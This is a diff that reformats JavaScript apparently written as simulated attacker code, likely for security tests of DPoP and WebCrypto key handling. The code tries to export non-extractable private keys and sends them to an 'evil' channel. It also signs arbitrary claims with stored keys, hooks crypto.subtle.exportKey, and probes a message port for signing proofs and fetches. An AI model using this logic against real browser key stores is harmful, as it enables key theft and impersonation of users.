@@ -13,7 +13,11 @@ export async function exportKeys(evil) {
       () => crypto.subtle.exportKey(format, privateKey),
       () => crypto.subtle.wrapKey(format, privateKey, wrapping, wrapAlgorithm),
     ]);
-    for (const attempt of tries) await attempt().then((key) => (got[got.length] = key), () => {});
+    for (const attempt of tries)
+      await attempt().then(
+        (key) => (got[got.length] = key),
+        () => {},
+      );
     for (const copy of [privateKey, structuredClone(privateKey)]) if (JSON.stringify(copy) !== "{}") got.push(JSON.stringify(copy));
   }
   await evil.post({ pairs: pairs.length, got });
@@ -22,7 +26,11 @@ export async function exportKeys(evil) {
 /** Signs these claims with every key in the store. */
 export async function signInPlace(evil, claims) {
   const values = (await evil.records()).map(([, value]) => value);
-  const encode = (bytes) => btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
+  const encode = (bytes) =>
+    btoa(String.fromCharCode(...bytes))
+      .replaceAll("+", "-")
+      .replaceAll("/", "_")
+      .replaceAll("=", "");
   const json = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
   const proofs = [];
   for (const { pair } of values.filter((value) => value.pair)) {
@@ -60,7 +68,11 @@ export function hookSigning(evil) {
     seen.add(key);
     return exportKey.call(this, format, key);
   };
-  const encode = (bytes) => btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
+  const encode = (bytes) =>
+    btoa(String.fromCharCode(...bytes))
+      .replaceAll("+", "-")
+      .replaceAll("/", "_")
+      .replaceAll("=", "");
   const json = (value) => encode(new TextEncoder().encode(JSON.stringify(value)));
   globalThis.signAhead = async ({ jwk, ...claims }) => {
     const proofs = [];
@@ -83,7 +95,10 @@ export async function askForProofs(evil, { url, elsewhere, iat }) {
   let id = 1_000_000;
   const operations = ["prove", "proof", "sign", "makeKey", "keys", "dpop", "exportKey", "jwk", "thumbprint"];
   for (const op of operations) port.postMessage({ v: 1, id: ++id, op, url, href: url, options: wishes, ...wishes });
-  const headers = [["x-dpop-time", String(iat)], ["date", new Date(iat * 1000).toUTCString()]];
+  const headers = [
+    ["x-dpop-time", String(iat)],
+    ["date", new Date(iat * 1000).toUTCString()],
+  ];
   port.postMessage({ v: 1, id: ++id, op: "fetch", url: elsewhere, headers, options: wishes, ...wishes });
   port.postMessage({ v: 1, id: ++id, op: "fetch", url, headers: [["dpop", "mine"]], options: wishes, ...wishes });
   const last = ++id;
